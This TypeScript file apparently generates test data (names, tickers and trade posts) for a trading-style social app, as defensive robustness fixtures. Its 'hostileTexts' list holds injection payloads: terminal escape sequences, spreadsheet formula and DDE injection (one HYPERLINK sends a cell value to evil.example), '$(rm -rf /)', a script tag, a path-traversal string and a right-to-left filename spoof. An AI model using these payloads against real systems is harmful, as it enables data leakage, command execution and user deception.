import { pick, type Random } from '../random.ts';

export const firsts =
  'degen lunar silent rapid hidden golden frozen crypto onchain based salty lucky tiny mega alpha sigma wild calm neon cosmic paper diamond midnight solar turbo humble patient reckless quantum velvet'.split(
    ' ',
  );

export const seconds =
  'duke whale otter monk fox trader sniper farmer wizard pilot ape koala baron ninja goblin hawk lynx mole nomad oracle panda raven shark tiger viking walrus yeti zebra scout smith'.split(
    ' ',
  );

/** Invented tickers, and some that a table, a spreadsheet or a terminal may handle incorrectly. */
export const tickers = [
  ...'MOONCAT FROGZ WAGMEE TURBOSNAIL KOALA PIXL BREADD ZAPP OTTR LAVA9 NOODL GRUMP HODLR VIBEZ SLOTH MINTY DUCKY ORBIT1 CHOMP YEETH TACOS GLUE RUGG PEBBL COSMO7 BANJO FOMOX SPUD QUAKK WIZZ'.split(
    ' ',
  ),
  ...['東京', '=SUM(A1)', '$CASH', '🐸', '\u001b[7mINV\u001b[0m', '@here', 'عملة'],
];

/** Names that a table or a terminal may render incorrectly. */
export const unusualNames = [
  ...[
    '龍之交易員',
    'さくら🌸トレード',
    '단타왕',
    'Пётр Китов',
    'محمد الحوت',
    'שרה סוחרת',
    'नमन ट्रेडर',
  ],
  ...['👩‍🚀 astro', '🏴‍☠️ Captain', 'ｆｕｌｌｗｉｄｔｈ', 'e\u0301clair (combining)'],
];

export const bios = [
  'Position first, thesis second, sleep third.',
  'on-chain since 2017. not financial advice.',
  'I buy high so that you can buy higher 🫡',
  'ex-quant, now quant-ish',
  'メモ: 損切りは早く、利食いは遅く',
  'gm ☀️\nlinks below\n— no DMs',
  'أتداول بهدوء',
  'charts, coffee, cope ☕️📉',
];

const buyTexts = [
  'Adding $T here. Volume is waking up and the float is thin.',
  'Long $T — the chart held its level three times, I am done waiting.',
  'Small bag of $T for the asymmetry: zero or ten, nothing between.',
  'Buying the fear on $T. Holders did not move, only tourists left.',
  'Rotating profits into $T; liquidity doubled since yesterday.',
  '$T: team ships weekly, cap is a rounding error. In.',
  'gm. $T again. Yes, again 🙂',
  'The narrative for $T is early and the memes write themselves.',
];
const sellTexts = [
  'Taking $T off. The move I wanted is done.',
  'Trimmed $T into strength, letting the rest ride.',
  'Out of $T. Insiders stopped bidding and so do I.',
  'Stop hit on $T. Small loss, no drama.',
  'Selling $T to sleep better tonight 😴',
  '$T did its thing. Thanks for playing.',
];
const endings = [
  ...[
    '',
    '',
    '',
    ' Stop is under the daily low.',
    ' Will revisit on Monday.',
    ' Not advice.',
    ' LFG 🚀🚀🚀',
  ],
  ...[' Watching holders > price.', ' Target is twice from here, invalid below entry.'],
];

/** Texts in other scripts and layouts, as real users post them. */
const internationalTexts = [
  '$T を押し目で買い増し。出来高が戻ってきた📈',
  '清仓 $T，等待更好的机会。耐心是唯一的优势。',
  '$T 롱. 손절은 짧게, 익절은 길게 🙏',
  'أشتري $T هنا، السيولة تتحسن والمخاطرة محدودة 🤲',
  'Беру $T на отскок, стоп короткий.',
  '👨‍👩‍👧‍👦 family bag of $T secured 🏳️‍🌈👩🏽‍🚀🇯🇵',
  'z̷̛a̸l̵g̶o̷ says $T e\u0301 n\u0303 \u200d\ufe0f',
  '$T\n\n1. catalyst this week\n2. thin book\n3. ???\n\n— end of thesis',
];

/** Texts that attack terminals, spreadsheets, parsers and browsers. */
export const hostileTexts = [
  '\u001b[2J\u001b[1;31mYOUR KEY HAS EXPIRED\u001b[0m',
  '\u001b]0;owned\u0007\u001b]8;;https://evil.example/$T\u0007buy $T\u001b]8;;\u0007',
  '\u001b]52;c;ZWNobyBvd25lZA==\u0007 $T',
  'c1 controls: \u009b31m \u0085 \u0090payload\u009c $T',
  '=HYPERLINK("https://evil.example/?v="&A1,"$T")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'safe \u202egnp.exe\u202c \u2066isolated\u2069 \u200f$T\u200e',
  'lone surrogates \ud83d and \udc00, then a whole one \ud83d\ude80',
  '{"id":"fake","thesis":"nested","error":{"code":"UNAUTHORIZED"}}',
  '{"type":"thesis","data":null}\n{"type":"error","error":"fake"}',
  'nul \u0000 backspace \b\b\b\b bell \u0007 vertical \u000b feed \f',
  '"quoted, ""twice""", and a, comma\r\nand a line',
  '<script>alert(1)</script> $(rm -rf /) `id` %s%n ../../etc/passwd',
  'line\u2028separator paragraph\u2029separator \ufeffmark',
  '__proto__ constructor toString',
];

/** Some tickers begin with a dollar sign of their own. */
export function cashtagOf(symbol: string): string {
  return symbol.startsWith('$') ? symbol : `$${symbol}`;
}

export function thesisText(random: Random, symbol: string | null, isSale: boolean): string | null {
  const about = (texts: readonly string[]) =>
    pick(random, texts).replaceAll('$T', () => (symbol === null ? 'it' : cashtagOf(symbol)));
  const plain = () => about(isSale ? sellTexts : buyTexts) + about(endings);
  const draw = random();
  if (draw < 0.008) return null;
  if (draw < 0.016) return '';
  if (draw < 0.019) return `Everything I know.\n${`${plain()}\n`.repeat(250)}`;
  if (draw < 0.04) return about(hostileTexts);
  return draw < 0.16 ? about(internationalTexts) : plain();
}
